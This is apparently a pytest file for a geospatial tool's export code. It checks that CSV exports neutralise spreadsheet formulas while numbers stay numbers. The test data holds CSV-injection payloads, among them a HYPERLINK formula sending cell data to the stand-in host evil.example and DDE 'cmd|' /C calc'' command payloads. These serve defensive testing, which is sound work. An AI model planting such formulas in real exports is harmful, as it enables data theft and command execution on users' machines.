"""CSV injection: no CSV the tool writes holds a cell a spreadsheet would run as a formula.

Formulas arrive as a user would bring them (an uploaded CSV and XLSX through the app's
import path, a site record's name); the exports are read back as a spreadsheet reads them
(the csv module) and the true values are checked in the GeoPackage and GeoJSON.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pyogrio
import pytest
from typer.testing import CliRunner

from geo.cli.main import app
from geo.core.workspace import open_workspace
from geo.export.site import collect, render
from geo.export.spreadsheet import formula_safe, neutralise_formulas
from geo.ingest.importer import import_into, workspace_reference
from geo.ingest.read import ImportOptions, ingest_bytes

SITE = "AWS-000521"
LON, LAT = 120.9631, 31.1921
LAYER = "discharge_points"

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
#: name → what a spreadsheet must read back from the CSV
FORMULAS = {
    HYPERLINK: "'" + HYPERLINK,
    "+SUM(1,2)": "'+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)": "'@SUM(A1:A2)",
    "\tTAB=1+1": "'\tTAB=1+1",
    "plain name": "plain name",
    "a = b": "a = b",
}


@pytest.mark.parametrize("value, expected", [
    *FORMULAS.items(),
    ("\rCR", "'\rCR"),
    ("-3.5", "-3.5"), ("+12", "+12"), ("-1e5", "-1e5"),  # plain numbers as text: numbers
    ("-", "'-"), ("-3.5 m", "'-3.5 m"), ("=1", "'=1"),
    (-3.5, -3.5), (7, 7), (None, None), (True, True),
])
def test_formula_safe(value: object, expected: object) -> None:
    assert formula_safe(value) == expected


def test_column_names_are_cells_too() -> None:
    frame = pd.DataFrame({"=cmd": ["x"], "depth": [-3.5]})
    safe = neutralise_formulas(frame)
    assert list(safe.columns) == ["'=cmd", "depth"]
    assert safe["depth"].dtype.kind == "f" and safe["depth"].iloc[0] == -3.5
    assert list(frame.columns) == ["=cmd", "depth"]  # the input is left alone


def _import(root: Path, data: bytes, name: str) -> None:
    ws = open_workspace(root)
    result = ingest_bytes(data, name, ImportOptions(),
                          reference=lambda near: workspace_reference(ws, near))
    import_into(ws, LAYER, result, site=SITE)


def _csv_upload() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["name", "lon", "lat", "depth", "=evil header"])
    for i, name in enumerate(FORMULAS):
        writer.writerow([name, LON + i * 1e-4, LAT, -3.5 - i, "-1"])
    return buffer.getvalue().encode("utf-8")


def _xlsx_upload() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["name", "lon", "lat", "depth"])
    sheet.append(["placeholder", LON + 0.001, LAT + 0.001, -4.25])
    sheet["A2"].value = "=cmd|' /C calc'!A0"
    sheet["A2"].data_type = "s"  # text that looks like a formula, as a user typed it
    sheet.append(["computed", LON + 0.0011, LAT + 0.001, "=1+1"])  # a real formula cell
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.fixture
def exported(demo_copy: Path) -> dict[str, bytes]:
    _import(demo_copy, _csv_upload(), "formulas.csv")
    _import(demo_copy, _xlsx_upload(), "formulas.xlsx")
    data = collect(open_workspace(demo_copy), SITE)
    parts = render(data, "csv")
    parts.update(render(data, "gpkg"))
    parts.update(render(data, "geojson"))
    return parts


def _rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_points_csv_neutralises_formulas_and_keeps_numbers(exported: dict[str, bytes]) -> None:
    rows = _rows(exported[f"{SITE}-points.csv"])
    names = {r["name"] for r in rows}
    for expected in FORMULAS.values():
        assert expected in names
    assert "'=cmd|' /C calc'!A0" in names  # from the XLSX's text cell
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    mine = [r for r in rows if r["source"].startswith("formulas.csv")]
    assert sorted(float(r["depth"]) for r in mine) == [-3.5 - i for i in range(len(FORMULAS))
                                                       ][::-1]
    assert all(not r["depth"].startswith("'") for r in mine)  # numbers stay numbers
    assert "'=evil header" in rows[0]  # the column name is a cell too
    assert {float(r["'=evil header"]) for r in mine} == {-1.0}  # a number, not a formula
    computed = next(r for r in rows if r["name"] == "computed")
    assert computed["depth"] == ""  # a formula cell's result is not in the file: empty


def test_every_csv_of_the_export_is_safe(exported: dict[str, bytes]) -> None:
    for name, raw in exported.items():
        if not name.endswith(".csv"):
            continue
        reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
        for row in reader:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                if cell.startswith("-"):
                    float(cell)  # only plain numbers may start with a minus


def test_geopackage_and_geojson_keep_the_true_values(exported: dict[str, bytes],
                                                     tmp_path: Path) -> None:
    document = json.loads(exported[f"{SITE}-scope.geojson"])
    names = {f["properties"].get("name") for f in document["features"]}
    assert HYPERLINK in names and "=cmd|' /C calc'!A0" in names
    path = tmp_path / "scope.gpkg"
    path.write_bytes(exported[f"{SITE}-scope.gpkg"])
    frames = [pyogrio.read_dataframe(path, layer=layer)
              for layer, kind in pyogrio.list_layers(path) if kind]
    assert any(HYPERLINK in set(frame.get("name", [])) for frame in frames)


def test_portfolio_csv_neutralises_site_names(demo_copy: Path, tmp_path: Path) -> None:
    record = demo_copy / "data" / "sites" / f"{SITE}.json"
    document = json.loads(record.read_text(encoding="utf-8"))
    document["site_name"] = "=HYPERLINK(\"http://evil.example\",\"Luxshare\")"
    record.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "portfolio.csv"
    result = CliRunner().invoke(app, ["scope", "--all", "--csv", str(out), "-w",
                                      str(demo_copy)])
    assert out.exists(), result.output
    rows = _rows(out.read_bytes())
    names = {r["aws_ref"]: r["name"] for r in rows}
    assert names[SITE] == "'" + document["site_name"]
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
